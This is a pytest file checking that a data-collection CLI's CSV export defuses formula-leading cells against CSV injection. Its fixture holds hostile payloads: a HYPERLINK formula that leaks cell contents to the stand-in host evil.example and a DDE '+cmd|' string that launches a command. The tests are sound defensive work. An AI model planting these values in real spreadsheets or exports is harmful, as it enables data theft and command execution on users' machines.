"""CSV (formula) injection (issue 11): every CSV isop writes defuses formula-leading cells
(``=HYPERLINK(...)``, ``+cmd|...``, ``-``, ``@``) the way ``export --format csv`` does:
``isop sites --format csv`` too."""

from __future__ import annotations

import csv
import io
import subprocess
from pathlib import Path

import pytest
from helpers.cli_store import store_runner
from sqlalchemy import update

from collector.cli import cli
from collector.writers.csv_writer import FORMULA_STARTS

REPO = Path(__file__).resolve().parents[2]
HOSTILE_SIGNAL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.fixture
def hostile_store(tmp_path, monkeypatch):
    from storage.models import Classification

    def hostile(s):
        s.execute(update(Classification).values(signals=[HOSTILE_SIGNAL, "+cmd|' /C calc'!A0", "@SUM(1+1)"],
                                                category="streaming"))

    return store_runner(tmp_path, monkeypatch, hostile)


def cells(text: str) -> list[list[str]]:
    return [row for row in csv.reader(io.StringIO(text)) if row]


def test_sites_csv_defuses_formula_cells(hostile_store):
    result = hostile_store.invoke(cli, ["sites", "--format", "csv"])
    assert result.exit_code == 0, result.output
    rows = cells(result.stdout)
    assert rows[0][0] == "domain" and len(rows) > 1
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (row, cell)
            for element in cell.split("; "):
                assert not element.startswith(FORMULA_STARTS), (row, element)
    signals = {row[rows[0].index("signals")] for row in rows[1:]}
    assert any(s.startswith("'" + HOSTILE_SIGNAL) and "; '+cmd|" in s and "; '@SUM" in s for s in signals), signals


def test_sites_json_and_table_keep_the_text(hostile_store):
    import json

    result = hostile_store.invoke(cli, ["sites", "--format", "json"])
    assert result.exit_code == 0
    assert any(HOSTILE_SIGNAL in r["signals"] for r in json.loads(result.stdout))


def test_every_csv_writer_uses_the_shared_defusing():
    """No CSV writer of isop's own bypasses collector/writers/csv_writer.py's cell functions."""
    found = subprocess.run(["grep", "-rlE", r"csv\.(writer|DictWriter)", "collector", "storage", "enrich", "spiders"],
                           cwd=REPO, capture_output=True, text=True).stdout.split()
    assert sorted(found) == ["collector/analyst.py", "collector/writers/csv_writer.py"], found
    analyst = (REPO / "collector" / "analyst.py").read_text()
    assert "joined_cell" in analyst and "cell(" in analyst
